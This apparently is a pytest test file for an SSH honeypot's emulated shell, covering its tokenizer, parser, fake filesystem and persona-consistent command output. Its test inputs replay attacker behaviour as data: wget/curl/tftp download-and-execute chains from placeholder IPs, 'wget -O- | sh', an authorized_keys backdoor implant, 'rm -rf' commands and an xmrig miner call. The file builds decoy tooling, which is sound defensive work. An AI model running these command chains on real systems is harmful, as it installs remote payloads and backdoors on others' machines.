"""The emulated shell: tokenizer, chains, pipes, redirections, fake filesystem, commands."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from honeyguard.errors import ContentError
from honeyguard.sensor.personas import BUILTIN_DIR
from honeyguard.sensor.shell import Shell
from honeyguard.sensor.shell.fs import FakeFs, FsError
from honeyguard.sensor.shell.parse import ShellSyntaxError, parse, tokenize
from honeyguard.sensor.sshd.persona import SshPersona
from honeyguard.yamlfile import load_yaml_file


def persona(name: str = "openssh-ubuntu-22.04") -> SshPersona:
    return load_yaml_file(BUILTIN_DIR / f"{name}.yaml", SshPersona, error=ContentError)


class Downloads:
    def __init__(self) -> None:
        self.seen: list[tuple[str, str, str]] = []

    def download(self, url: str, tool: str, command: str) -> None:
        self.seen.append((url, tool, command))


@pytest.fixture
def downloads() -> Downloads:
    return Downloads()


@pytest.fixture
def shell(downloads: Downloads) -> Shell:
    return Shell(facts=persona().system, hostname="web01", events=downloads,
                 now=lambda: datetime(2026, 3, 1, 12, 0, tzinfo=UTC))


def run(shell: Shell, line: str) -> str:
    return shell.run_line(line).output


# -- tokenizer and parser ---------------------------------------------------------------------
def words(line: str) -> list[str]:
    return ["".join(text for _, text in token) if isinstance(token, tuple) else f"<{token}>"
            for token in tokenize(line)]


def test_tokenizer_quotes_and_escapes() -> None:
    assert words("echo 'a b' \"c d\" e\\ f") == ["echo", "a b", "c d", "e f"]
    assert words("echo 'it'\\''s'") == ["echo", "it's"]
    assert words('echo "say \\"hi\\""') == ["echo", 'say "hi"']
    assert words("echo ''") == ["echo", ""]


def test_tokenizer_operators_and_fd_redirections() -> None:
    assert words("a;b&&c||d|e>f>>g<h") == ["a", "<;>", "b", "<&&>", "c", "<||>", "d", "<|>", "e", "<>>", "f",
                                           "<>>>", "g", "<<>", "h"]
    assert words("cmd 2>/dev/null 2>&1 >&2") == ["cmd", "<2>>", "/dev/null", "<2>&1>", "<>&2>"]
    assert words("echo a2>x") == ["echo", "a2", "<>>", "x"]  # only a bare '2' names a descriptor
    assert words("ls # a comment; rm -rf /") == ["ls"]


def test_parser_builds_chains_and_pipelines() -> None:
    parsed = parse("cd /tmp && wget x -O- | sh; echo done || true")
    connectors = [connector for connector, _ in parsed.items]
    assert connectors == [";", "&&", ";", "||"]
    assert len(parsed.items[1][1].commands) == 2


@pytest.mark.parametrize("line", [";", "| ls", "ls &&", "ls >", "ls ;; ls", "ls | | ls"])
def test_parser_refuses_what_bash_refuses(line: str) -> None:
    with pytest.raises(ShellSyntaxError):
        parse(line)


def test_syntax_error_is_reported_like_bash(shell: Shell) -> None:
    assert run(shell, "| ls") == "-bash: syntax error near unexpected token `|'\n"


# -- variables, chains, pipes -------------------------------------------------------------------
def test_variables_expand_in_order(shell: Shell) -> None:
    assert run(shell, "export A=5; echo $A ${A}x '$A' \"$A\"") == "5 5x $A 5\n"
    assert run(shell, "B=7; echo $B$HOME") == "7/root\n"
    assert run(shell, "echo $(whoami)@`hostname`") == "root@web01\n"


def test_arithmetic_is_parsed_not_evaluated(shell: Shell) -> None:
    assert run(shell, "A=6; echo $((A*7)) $((2*(3+4))) $((-7/2)) $((10%3)) $((1/0)) $((__import__))") == \
        "42 14 -3 1 0 0\n"


def test_wrappers_run_the_wrapped_command(shell: Shell) -> None:
    assert run(shell, "sudo -u root id -u; nohup whoami; timeout -s 9 10 uname") == "0\nroot\nLinux\n"


def test_chains_follow_exit_status(shell: Shell) -> None:
    assert run(shell, "false && echo no; true && echo yes") == "yes\n"
    assert run(shell, "cat /nope || echo fallback") == "cat: /nope: No such file or directory\nfallback\n"
    assert run(shell, "false; echo $?") == "1\n"


def test_pipes_hand_output_to_the_next_command(shell: Shell) -> None:
    assert run(shell, "cat /proc/cpuinfo | grep 'model name' | wc -l") == "2\n"
    assert run(shell, "echo hello | cat") == "hello\n"


# -- fake filesystem --------------------------------------------------------------------------
def test_filesystem_is_consistent_within_a_session(shell: Shell) -> None:
    assert run(shell, "cd /tmp && mkdir work && cd work && pwd") == "/tmp/work\n"
    run(shell, "echo first > notes.txt; echo second >> notes.txt; touch empty")
    assert run(shell, "cat notes.txt") == "first\nsecond\n"
    assert run(shell, "ls") == "empty  notes.txt\n"
    run(shell, "chmod +x notes.txt")
    assert run(shell, "ls -la notes.txt").startswith("-rwxr-xr-x 1 root root     13 ")
    run(shell, "rm notes.txt")
    assert run(shell, "cat notes.txt") == "cat: notes.txt: No such file or directory\n"
    assert run(shell, "cd ..; rm work; echo $?") == "rm: cannot remove 'work': Is a directory\n1\n"
    assert run(shell, "rm -rf work; ls work") == "ls: cannot access 'work': No such file or directory\n"


def test_redirection_to_dev_null_and_stderr(shell: Shell) -> None:
    assert run(shell, "cat /nope 2>/dev/null; echo $?") == "1\n"
    assert run(shell, "cat /nope 2>&1 | wc -l") == "1\n"
    assert run(shell, "echo out > /dev/null") == ""


def test_fake_fs_caps_bytes_and_files() -> None:
    fs = FakeFs(max_bytes=10, max_nodes=3)
    fs.mkdir("/a")
    fs.write("/a/x", b"12345")
    with pytest.raises(FsError, match="No space"):
        fs.write("/a/y", b"123456")
    with pytest.raises(FsError, match="No space"):
        fs.write("/a/z", b"")
        fs.write("/a/w", b"")
    with pytest.raises(FsError, match="No such file"):
        fs.write("/missing/x", b"")


def test_paths_resolve_like_a_shell() -> None:
    assert FakeFs.resolve("/tmp", "../etc/./passwd") == "/etc/passwd"
    assert FakeFs.resolve("/", "../../..") == "/"
    assert FakeFs.resolve("/tmp", "~/x", "/root") == "/root/x"
    assert FakeFs.resolve("/tmp", "//etc") == "/etc"


# -- commands answer from the persona -------------------------------------------------------
def test_system_commands_agree_with_the_persona(shell: Shell) -> None:
    facts = persona().system
    assert run(shell, "uname -a") == (f"Linux web01 {facts.kernel_release} {facts.kernel_version} x86_64 x86_64 "
                                      "x86_64 GNU/Linux\n")
    assert run(shell, "uname -r; uname -m; uname") == f"{facts.kernel_release}\nx86_64\nLinux\n"
    assert run(shell, "nproc") == f"{facts.cpu_count}\n"
    assert run(shell, "grep -c processor /proc/cpuinfo") == f"{facts.cpu_count}\n"
    assert f"MemTotal:        {facts.mem_total_kb} kB" in run(shell, "cat /proc/meminfo")
    assert run(shell, "free -m").splitlines()[1].split()[1] == str(facts.mem_total_kb // 1024)
    assert run(shell, "cat /etc/passwd") == facts.passwd
    assert 'VERSION_ID="22.04"' in run(shell, "cat /etc/os-release")
    assert run(shell, "id") == "uid=0(root) gid=0(root) groups=0(root)\n"
    assert run(shell, "whoami; hostname") == "root\nweb01\n"
    assert "/usr/sbin/mysqld" in run(shell, "ps aux")
    assert "load average: 0.08, 0.05, 0.01" in run(shell, "uptime")
    assert run(shell, "which wget uname nosuch") == "/usr/bin/wget\n/usr/bin/uname\n"


def test_another_persona_gives_other_answers() -> None:
    debian = Shell(facts=persona("openssh-debian-12").system, hostname="db-prod-2")
    assert debian.run_line("uname -r").output == "6.1.0-18-amd64\n"
    assert debian.run_line("nproc").output == "4\n"
    assert debian.prompt() == "root@db-prod-2:~# "


def test_recon_one_liners_bots_use(shell: Shell) -> None:
    assert run(shell, "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'") == \
        "Intel(R) Xeon(R) Platinum 8259CL CPU @\n"
    assert run(shell, "awk -F: '/bash/ {print $1, $NF}' /etc/passwd") == "root /bin/bash\nubuntu /bin/bash\n"
    assert run(shell, "echo hello | tr a-z A-Z; getconf LONG_BIT") == "HELLO\n64\n"
    assert run(shell, "ls -l $(which ls)").endswith(" /usr/bin/ls\n")
    assert "inet 10.0.2.15" in run(shell, "ifconfig")


def test_ssh_key_implant_is_consistent(shell: Shell) -> None:
    run(shell, 'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3Nz mdrfckr" >> .ssh/authorized_keys '
               "&& chmod -R go= ~/.ssh")
    assert run(shell, "cat ~/.ssh/authorized_keys; echo ~") == "ssh-rsa AAAAB3Nz mdrfckr\n/root\n"
    listing = run(shell, "ls -la /root/.ssh")
    assert "drwx------ 2 root root" in listing and "-rw------- 1 root root" in listing


def test_unknown_commands_are_not_handled(shell: Shell) -> None:
    result = shell.run_line("xmrig --donate-level 1")
    assert result.output == "-bash: xmrig: command not found\n"
    assert result.handled is False
    assert shell.run_line("uname").handled is True
    assert shell.run_line("echo ok; nosuch").handled is False


def test_downloads_are_recorded_and_appear_in_the_fs(shell: Shell, downloads: Downloads) -> None:
    output = run(shell, "cd /tmp; wget http://198.51.100.7/bins/x86 && chmod +x x86 && ./x86")
    assert "Connecting to 198.51.100.7:80... connected." in output
    assert output.endswith("Segmentation fault (core dumped)\n")
    run(shell, "curl -fsSL http://198.51.100.7/a.sh -o /tmp/a.sh; busybox wget http://203.0.113.9/b -O /tmp/b")
    run(shell, "tftp -g -r m.arm 198.51.100.8")
    assert [(url, tool) for url, tool, _ in downloads.seen] == [
        ("http://198.51.100.7/bins/x86", "wget"), ("http://198.51.100.7/a.sh", "curl"),
        ("http://203.0.113.9/b", "wget"), ("tftp://198.51.100.8/m.arm", "tftp")]
    assert run(shell, "ls /tmp") == "a.sh  b  m.arm  x86\n"
    assert run(shell, "sh /tmp/a.sh; echo $?") == "0\n"


def test_prompt_follows_cwd_and_exit_ends_the_shell(shell: Shell) -> None:
    assert shell.prompt() == "root@web01:~# "
    run(shell, "cd /var/www")
    assert shell.prompt() == "root@web01:/var/www# "
    assert shell.run_line("exit").exit is True


def test_exit_keeps_output_and_status_and_ends_only_its_own_level(shell: Shell) -> None:
    assert run(shell, "echo $(exit; echo no)x; sh -c 'echo in; exit 3; echo not'; echo $?") == "x\nin\n3\n"
    result = shell.run_line("uname; exit 4; uname -r")
    assert (result.output, result.exit, shell.last_status) == ("Linux\n", True, 4)


def test_history_lists_the_lines(shell: Shell) -> None:
    run(shell, "id")
    run(shell, "uname -a")
    assert run(shell, "history") == "    1  id\n    2  uname -a\n    3  history\n"


def test_output_of_a_line_is_capped(shell: Shell) -> None:
    run(shell, "echo " + "A" * 60000 + " > /tmp/big")
    output = run(shell, "cat /tmp/big /tmp/big /tmp/big /tmp/big /tmp/big /tmp/big")
    assert len(output) <= 256 * 1024


def test_script_recursion_is_bounded(shell: Shell) -> None:
    run(shell, "echo 'sh /tmp/loop.sh' > /tmp/loop.sh; chmod +x /tmp/loop.sh")
    assert shell.run_line("sh /tmp/loop.sh").exit is False  # ends instead of recursing forever


_ALPHABET = st.sampled_from([*"abc xyz019-_/.~$(){}`'\"\\;&|<>#=*?!\n\t\r", "echo", "ls", "cd", "&&", "||",
                             "2>&1", "wget", "$((", "sh", "cat", "uname", "\x00"])


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(line=st.one_of(st.text(max_size=120), st.lists(_ALPHABET, max_size=40).map("".join)))
def test_any_command_line_never_raises(line: str) -> None:
    shell = Shell(facts=_FACTS, hostname="web01")
    result = shell.run_line(line)
    assert isinstance(result.output, str)
    result = shell.run_line(line)  # and again, on whatever state the first run left
    assert isinstance(result.output, str)


_FACTS = persona().system


def test_personas_on_disk_load() -> None:
    for path in Path(BUILTIN_DIR).glob("openssh-*.yaml"):
        assert persona(path.stem).version.startswith("SSH-2.0-OpenSSH_")
